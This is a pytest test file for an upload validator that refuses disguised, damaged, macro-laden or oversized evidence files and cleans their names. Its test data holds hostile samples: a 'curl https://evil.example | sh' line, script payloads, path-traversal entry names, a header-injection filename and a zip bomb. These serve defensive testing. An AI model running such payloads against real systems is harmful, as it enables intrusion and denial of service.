"""Evidence files: types from the bytes, polyglots, zip bombs and unsafe names refused."""

from __future__ import annotations

import hashlib
import io
import struct
import unicodedata
import zipfile
import zlib

import pytest

from marks import evidence
from marks.evidence import ACCEPTED, CheckedFile, EvidenceRefused, check, content_disposition

MB = 1024 * 1024
OPENXML = "application/vnd.openxmlformats-officedocument."


# Sample files, built in memory ------------------------------------------------------------


def make_pdf(stream: bytes = b"BT /F1 12 Tf 72 720 Td (Evidence) Tj ET") -> bytes:
    """A small, well-formed PDF with one page and an xref table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def png_chunk(chunk_type: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(chunk_type + data)
    return struct.pack(">I", len(data)) + chunk_type + data + struct.pack(">I", crc)


def make_png(*extra_chunks: bytes) -> bytes:
    """A real 2x2 RGB PNG: signature, IHDR, IDAT (zlib), IEND, with correct CRCs."""
    ihdr = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    rows = b"".join(b"\x00" + b"\x1d\x70\xb8" * 2 for _ in range(2))  # filter byte + pixels
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + b"".join(extra_chunks)
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    """SOI, a JFIF APP0 segment, a comment, EOI: enough for the signature checks."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    comment = b"council evidence"
    return (
        b"\xff\xd8"
        + b"\xff\xe0"
        + struct.pack(">H", len(app0) + 2)
        + app0
        + b"\xff\xfe"
        + struct.pack(">H", len(comment) + 2)
        + comment
        + b"\xff\xd9"
    )


MAIN_PARTS = {
    "docx": ("word/document.xml", OPENXML + "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", OPENXML + "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", OPENXML + "presentationml.presentation.main+xml"),
}


def content_types(*overrides: tuple[str, str]) -> bytes:
    parts = "".join(
        f'<Override PartName="/{name}" ContentType="{ctype}"/>' for name, ctype in overrides
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{parts}</Types>"
    ).encode()


def make_ooxml(kind: str = "docx", extra=(), *, types: bytes | None = None) -> bytes:
    """A minimal Office Open XML package: content types, relationships and the main part."""
    main, main_type = MAIN_PARTS[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types or content_types((main, main_type)))
        zf.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="' + main + '" Type="http://schemas.openxmlformats'
            '.org/officeDocument/2006/relationships/officeDocument"/></Relationships>',
        )
        zf.writestr(main, f'<?xml version="1.0"?><root kind="{kind}">Evidence</root>')
        for name, data in extra:
            zf.writestr(name, data)
    return buffer.getvalue()


def make_zip(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buffer.getvalue()


def make_pe() -> bytes:
    """The start of a Windows executable: a DOS header whose e_lfanew points at PE\\0\\0."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 0x80)
    return dos + b"This program cannot be run in DOS mode.".ljust(0x40, b"\x00") + b"PE\x00\x00"


SAMPLES = {
    "pdf": make_pdf(),
    "png": make_png(),
    "jpeg": make_jpeg(),
    "docx": make_ooxml("docx"),
    "xlsx": make_ooxml("xlsx"),
    "pptx": make_ooxml("pptx"),
}


def refused(filename: str, content: bytes, **kwargs) -> str:
    with pytest.raises(EvidenceRefused) as info:
        check(filename, content, **kwargs)
    return str(info.value)


# Accepted types ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "content_type", "filename"),
    [
        ("pdf", "application/pdf", "Annual report.pdf"),
        ("png", "image/png", "Annual report.png"),
        ("jpeg", "image/jpeg", "Annual report.jpg"),
        ("docx", OPENXML + "wordprocessingml.document", "Annual report.docx"),
        ("xlsx", OPENXML + "spreadsheetml.sheet", "Annual report.xlsx"),
        ("pptx", OPENXML + "presentationml.presentation", "Annual report.pptx"),
    ],
)
def test_each_accepted_type_passes_with_its_canonical_type_and_extension(
    kind, content_type, filename
):
    content = SAMPLES[kind]
    result = check("Annual report.bin", content)
    assert result == CheckedFile(
        filename=filename,
        content_type=content_type,
        size_bytes=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        content=content,
    )
    assert ACCEPTED[kind].content_type == content_type


def test_the_name_and_its_extension_do_not_decide_the_type():
    assert check("photo.png", SAMPLES["pdf"]).filename == "photo.pdf"
    assert check("report.exe", SAMPLES["pdf"]).content_type == "application/pdf"
    assert check("slides.docx", SAMPLES["pptx"]).filename == "slides.pptx"


def test_a_jpeg_may_end_in_zero_padding():
    assert check("p.jpg", make_jpeg() + bytes(64)).content_type == "image/jpeg"


def test_a_docx_with_an_embedded_workbook_and_ole_object_passes():
    docx = make_ooxml(
        "docx",
        [
            ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", SAMPLES["xlsx"]),
            ("word/embeddings/oleObject1.bin", bytes(range(256)) * 4),
        ],
    )
    assert check("a.docx", docx).content_type == ACCEPTED["docx"].content_type


# Wrong types ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("report.pdf", make_pe() + bytes(512)),  # a renamed Windows executable
        ("report.pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n%%EOF\n"),
        ("chart.png", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
        ("notes.pdf", b" %PDF-1.7\n%%EOF\n"),  # the header must be at offset 0
        ("data.xlsx", b"\x7fELF\x02\x01\x01" + bytes(57)),
    ],
)
def test_content_that_is_not_an_accepted_type_is_refused(filename, content):
    assert refused(filename, content) == (
        "The selected file must be a PDF, PNG, JPEG, DOCX, XLSX or PPTX"
    )


def test_a_zip_that_is_not_office_open_xml_is_refused():
    assert refused("a.docx", make_zip(("readme.txt", b"hello"))) == evidence.WRONG_TYPE
    no_main = make_zip(("[Content_Types].xml", content_types()), ("word/other.xml", b"<x/>"))
    assert refused("a.docx", no_main) == evidence.WRONG_TYPE
    no_types = make_zip(("word/document.xml", b"<x/>"))
    assert refused("a.docx", no_types) == evidence.WRONG_TYPE
    assert refused("a.docx", make_zip()) == evidence.WRONG_TYPE


def test_a_package_that_is_both_a_document_and_a_workbook_is_refused():
    both = make_ooxml("docx", [("xl/workbook.xml", b"<workbook/>")])
    assert refused("a.docx", both) == evidence.DAMAGED_OFFICE


# Damaged files ----------------------------------------------------------------------------


def test_damaged_files_are_refused():
    assert refused("a.pdf", make_pdf().replace(b"%%EOF", b"%%EOX")) == (
        "The selected file is damaged or not a real PDF"
    )
    png_message = "The selected file is damaged or not a real PNG image"
    png = make_png()
    assert refused("a.png", png[:-6]) == png_message  # truncated
    assert refused("a.png", png[:30] + b"\x00" + png[31:]) == png_message  # bad IHDR CRC
    assert refused("a.png", png + b"trailing") == png_message
    assert refused("a.png", png[:8] + png_chunk(b"IDAT", b"x") + png[8:]) == png_message
    assert check("a.png", png + bytes(16)).content_type == "image/png"
    assert refused("a.jpg", make_jpeg()[:-2]) == (
        "The selected file is damaged or not a real JPEG image"
    )
    docx = SAMPLES["docx"]
    assert refused("a.docx", docx[: len(docx) // 2]) == evidence.DAMAGED_OFFICE


def test_a_corrupted_part_fails_its_crc_and_is_refused():
    # Stored, not deflated, so that one byte of the part's data can be changed in place.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("[Content_Types].xml", content_types())
        zf.writestr("word/document.xml", b"<document>" + b"evidence" * 10 + b"</document>")
    stored = buffer.getvalue()
    corrupted = stored.replace(b"evidence" * 10, b"evidencf" + b"evidence" * 9)
    assert check("a.docx", stored).content_type == ACCEPTED["docx"].content_type
    assert refused("a.docx", corrupted) == evidence.DAMAGED_OFFICE


# Polyglots --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["png", "pdf", "jpeg"])
def test_an_image_or_pdf_with_a_zip_appended_is_refused(kind):
    polyglot = SAMPLES[kind] + make_zip(("payload.js", b"WScript.Echo(1)"))
    assert refused("a.bin", polyglot) == evidence.HIDDEN


def test_a_pdf_with_a_zip_inside_a_stream_is_refused():
    pdf = make_pdf(stream=SAMPLES["docx"])
    assert refused("a.pdf", pdf) == evidence.HIDDEN


def test_a_pdf_carrying_a_windows_program_is_refused():
    assert refused("a.pdf", make_pdf(stream=bytes(100) + make_pe() + bytes(100))) == (
        evidence.HIDDEN
    )


def test_an_image_that_a_pdf_reader_would_open_is_refused():
    png = make_png(png_chunk(b"tEXt", b"Comment\x00%PDF-1.4 1 0 obj"))
    assert refused("a.png", png) == evidence.HIDDEN


def test_a_zip_with_data_before_it_is_refused():
    docx = SAMPLES["docx"]
    # A non-zip prefix is simply not an accepted type.
    assert refused("a.docx", b"GIF89a" + bytes(32) + docx) == evidence.WRONG_TYPE
    # zipfile would open this one, finding the real archive after a fake local header.
    prefixed = b"PK\x03\x04" + bytes(60) + docx
    with zipfile.ZipFile(io.BytesIO(prefixed)) as zf:
        assert "word/document.xml" in zf.namelist()
    assert refused("a.docx", prefixed) == evidence.HIDDEN


def test_a_zip_with_data_after_its_end_record_is_refused():
    docx = SAMPLES["docx"]
    assert refused("a.docx", docx + b"<script>alert(1)</script>") == evidence.HIDDEN
    assert refused("a.docx", docx + SAMPLES["pdf"]) == evidence.HIDDEN


# Zip bombs and unsafe packages ------------------------------------------------------------


@pytest.fixture(scope="module")
def docx_with_300mb_of_zeros() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", content_types())
        zf.writestr("word/document.xml", b"<document/>")
        chunk = bytes(MB)
        with zf.open("word/media/image1.bin", "w") as member:
            for _ in range(300):
                member.write(chunk)
    return buffer.getvalue()


def test_a_docx_that_unpacks_to_300mb_is_refused(docx_with_300mb_of_zeros):
    assert len(docx_with_300mb_of_zeros) < 2 * MB
    assert refused("bomb.docx", docx_with_300mb_of_zeros) == (
        "The selected file would be larger than 200MB when opened"
    )


def test_a_part_compressed_more_than_100_times_is_refused():
    docx = make_ooxml("docx", [("word/media/blank.bin", bytes(MB))])
    assert refused("a.docx", docx) == evidence.TOO_COMPRESSED


def test_a_docx_with_3000_parts_is_refused():
    docx = make_ooxml("docx", [(f"word/media/p{i}.xml", b"<p/>") for i in range(3000)])
    assert refused("a.docx", docx) == (
        "The selected file has too many parts inside it (more than 2,000)"
    )


def patch_central_directory(package: bytes, name: bytes, offset: int, value: bytes) -> bytes:
    """Overwrite a field of the central directory record for the part `name`."""
    entry = package.index(b"PK\x01\x02")
    while package[entry + 46 : entry + 46 + len(name)] != name:
        entry = package.index(b"PK\x01\x02", entry + 4)
    return package[: entry + offset] + value + package[entry + offset + len(value) :]


def test_a_lying_size_in_the_header_cannot_make_more_be_decompressed():
    docx = make_ooxml("docx", [("word/media/text.xml", b"council " * 20_000)])
    # The uncompressed size is at offset 24 of a central directory record.
    lying = patch_central_directory(docx, b"word/media/text.xml", 24, struct.pack("<I", 1000))
    with zipfile.ZipFile(io.BytesIO(lying)) as zf:
        assert zf.getinfo("word/media/text.xml").file_size == 1000
    # zipfile stops at the declared size, and the CRC no longer matches.
    assert refused("a.docx", lying) == evidence.DAMAGED_OFFICE


def test_reading_stops_at_the_cap_whatever_the_headers_say():
    docx = make_ooxml("docx", [("word/media/random.bin", bytes(range(256)) * 400)])
    with zipfile.ZipFile(io.BytesIO(docx)) as zf, pytest.raises(EvidenceRefused) as info:
        evidence._read_members(zf, zf.infolist(), cap=50_000)
    assert str(info.value) == evidence.TOO_BIG_UNPACKED


@pytest.mark.parametrize(
    "extra",
    [
        [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macros")],
        [("xl/VBAPROJECT.BIN", b"macros")],
    ],
)
def test_a_package_with_macros_is_refused(extra):
    message = refused("a.docx", make_ooxml("docx", extra))
    assert message == (
        "The selected file contains macros. Macro-enabled files are not accepted: "
        "save it as a DOCX, XLSX or PPTX without macros"
    )


def test_macros_are_found_by_content_type_whatever_the_part_is_called():
    docm = content_types(
        ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    )
    assert refused("a.docx", make_ooxml("docx", types=docm)) == evidence.MACROS
    hidden = content_types(
        ("word/document.xml", MAIN_PARTS["docx"][1]),
        ("word/styles2.bin", "application/vnd.ms-office.vbaProject"),
    )
    docx = make_ooxml("docx", [("word/styles2.bin", b"macros")], types=hidden)
    assert refused("a.docx", docx) == evidence.MACROS


@pytest.mark.parametrize(
    "name",
    ["../../evil.sh", "word/../../evil.sh", "/etc/cron.d/evil", "..\\..\\evil.sh", "C:/evil.txt"],
)
def test_a_package_with_a_path_traversal_entry_is_refused(name):
    docx = make_ooxml("docx", [(name, b"#!/bin/sh\n")])
    with zipfile.ZipFile(io.BytesIO(docx)) as zf:
        assert name in zf.namelist()  # zipfile keeps the name as written
    assert refused("a.docx", docx) == "The selected file has parts with unsafe names inside it"


@pytest.mark.parametrize(
    "name", ["word/embeddings/setup.exe", "word/media/payload.ZIP", "xl/run.ps1", "a.js"]
)
def test_a_package_with_a_program_or_nested_archive_inside_is_refused(name):
    docx = make_ooxml("docx", [(name, b"MZ")])
    assert refused("a.docx", docx) == "The selected file has a program or script inside it"


def test_a_package_with_an_encrypted_part_is_refused():
    docx = make_ooxml("docx", [("word/media/secret.xml", b"<secret/>")])
    # Bit 0 of the flags, at offset 8 of a central directory record, marks a part encrypted.
    docx = patch_central_directory(docx, b"word/media/secret.xml", 8, struct.pack("<H", 1))
    assert refused("a.docx", docx) == (
        "The selected file is password protected. Remove the password and upload it again"
    )


def test_a_package_with_two_parts_of_one_name_is_refused():
    with pytest.warns(UserWarning, match="Duplicate name"):
        docx = make_ooxml("docx", [("word/document.xml", b"<other/>")])
    assert refused("a.docx", docx) == evidence.DAMAGED_OFFICE


def test_a_package_using_another_compression_method_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as zf:
        zf.writestr("[Content_Types].xml", content_types())
        zf.writestr("word/document.xml", b"<document/>")
    assert refused("a.docx", buffer.getvalue()) == evidence.DAMAGED_OFFICE


# Sizes ------------------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    assert refused("a.pdf", b"") == "The selected file is empty"


def test_a_file_over_the_per_file_limit_is_refused():
    pdf = make_pdf()
    assert check("a.pdf", pdf, max_file_bytes=len(pdf)).size_bytes == len(pdf)
    assert refused("a.pdf", pdf, max_file_bytes=len(pdf) - 1) == (
        f"The selected file must be smaller than {len(pdf) - 1} bytes"
    )
    assert refused("a.pdf", bytes(3 * 1024), max_file_bytes=2 * 1024) == (
        "The selected file must be smaller than 2KB"
    )


def test_a_file_that_would_take_the_application_over_its_limit_is_refused():
    pdf = make_pdf()
    stored = evidence.MAX_APPLICATION_BYTES - len(pdf)
    assert check("a.pdf", pdf, already_stored_bytes=stored).size_bytes == len(pdf)
    assert refused("a.pdf", pdf, already_stored_bytes=stored + 1) == (
        "Adding this file would take your application's evidence over 50MB. "
        "Remove a file you no longer need, or make this one smaller"
    )
    message = refused("a.pdf", pdf, already_stored_bytes=900, max_application_bytes=1024)
    assert message.startswith("Adding this file would take your application's evidence over 1KB")


def test_the_default_limits():
    assert evidence.MAX_FILE_BYTES == 10 * MB
    assert evidence.MAX_APPLICATION_BYTES == 50 * MB


# Names ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("report.exe", "report.pdf"),
        ("C:\\Users\\clerk\\Desktop\\Evidence pack.PDF", "Evidence pack.pdf"),
        ("/var/www/../uploads/minutes.pdf", "minutes.pdf"),
        ("minutes\x00.pdf", "minutes.pdf"),
        ("min\x07utes\x1b[31m.pdf", "minutes[31m.pdf"),
        ("  annual \t\r\n report   2024 .pdf ", "annual report 2024.pdf"),
        ("evil\u202efdp.exe", "evilfdp.pdf"),  # a right-to-left override, removed
        ("minutes 12.03.2024", "minutes 12.03.2024.pdf"),  # a date is not an extension
        ("report.tar.gz", "report.tar.pdf"),
        ("report", "report.pdf"),
        ("", "evidence.pdf"),
        ("../", "evidence.pdf"),
        ("...", "evidence.pdf"),
        (".pdf", "evidence.pdf"),
        ("\x00\x01\x02", "evidence.pdf"),
        ("Adroddiad Môn.pdf", "Adroddiad Môn.pdf"),
        ("Adroddiad Mo\u0302n.pdf", "Adroddiad Môn.pdf"),  # NFD in, NFC out
        ("报告.pdf", "报告.pdf"),
    ],
)
def test_the_filename_is_cleaned(given, expected):
    assert check(given, SAMPLES["pdf"]).filename == expected


def test_a_very_long_filename_is_cut_to_120_characters_keeping_the_extension():
    name = check("a" * 300 + ".exe", SAMPLES["pdf"]).filename
    assert name == "a" * 116 + ".pdf"
    assert len(check("ŵ" * 300 + ".docx", SAMPLES["docx"]).filename) == 120


def test_non_ascii_names_are_kept_in_nfc():
    name = check(unicodedata.normalize("NFD", "Adroddiad Môn.pdf"), SAMPLES["pdf"]).filename
    assert name == "Adroddiad Môn.pdf"
    assert unicodedata.is_normalized("NFC", name)


# Content-Disposition ----------------------------------------------------------------------


def test_content_disposition_for_an_ascii_name():
    assert content_disposition("Annual report.pdf") == (
        "attachment; filename=\"Annual report.pdf\"; filename*=UTF-8''Annual%20report.pdf"
    )


def test_content_disposition_for_a_non_ascii_name_has_both_parts():
    assert content_disposition("Adroddiad Môn.pdf") == (
        "attachment; filename=\"Adroddiad Mon.pdf\"; filename*=UTF-8''Adroddiad%20M%C3%B4n.pdf"
    )
    assert content_disposition("报告.pdf") == (
        "attachment; filename=\"__.pdf\"; filename*=UTF-8''%E6%8A%A5%E5%91%8A.pdf"
    )


def test_content_disposition_cannot_be_broken_out_of():
    header = content_disposition('evil".pdf\r\nSet-Cookie: a=b; \\x')
    assert header == (
        'attachment; filename="evil.pdf Set-Cookie: a=b; x"; '
        "filename*=UTF-8''evil%22.pdf%20Set-Cookie%3A%20a%3Db%3B%20%5Cx"
    )
    assert "\r" not in header and "\n" not in header
    fallback = header.split('filename="', 1)[1].split('"; filename*=', 1)[0]
    assert '"' not in fallback and "\\" not in fallback


def test_content_disposition_with_nothing_usable():
    assert content_disposition("\x00\r\n") == (
        "attachment; filename=\"evidence\"; filename*=UTF-8''evidence"
    )


# Properties -------------------------------------------------------------------------------

hypothesis = pytest.importorskip("hypothesis")
st = hypothesis.strategies
ACCEPTED_TYPES = {kind.content_type for kind in ACCEPTED.values()}
FUZZ = hypothesis.settings(max_examples=300, deadline=None, database=None)


def refused_or_accepted(filename: str, content: bytes) -> CheckedFile | None:
    try:
        result = check(filename, content)
    except EvidenceRefused as error:
        assert str(error)
        return None
    assert result.content_type in ACCEPTED_TYPES
    assert result.content == content
    return result


@FUZZ
@hypothesis.given(st.binary(max_size=4096), st.text(max_size=200))
def test_arbitrary_bytes_are_refused_or_accepted_never_an_error(content, filename):
    refused_or_accepted(filename, content)


@FUZZ
@hypothesis.given(
    st.sampled_from(sorted(SAMPLES)),
    st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), max_size=6),
    st.integers(min_value=0),
)
def test_damaged_samples_are_refused_or_accepted_never_an_error(kind, flips, cut):
    content = bytearray(SAMPLES[kind])
    for position, value in flips:
        content[position % len(content)] = value
    if cut % 3 == 0:
        del content[cut % len(content) :]
    refused_or_accepted("sample", bytes(content))


@FUZZ
@hypothesis.given(st.text(max_size=400))
def test_any_filename_becomes_a_safe_display_name(filename):
    name = check(filename, SAMPLES["png"]).filename
    assert name.endswith(".png") and 5 <= len(name) <= 120
    assert "/" not in name and "\\" not in name
    assert unicodedata.is_normalized("NFC", name)
    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs"} for c in name)
    assert name == name.strip() and "  " not in name
    assert content_disposition(name).isascii()
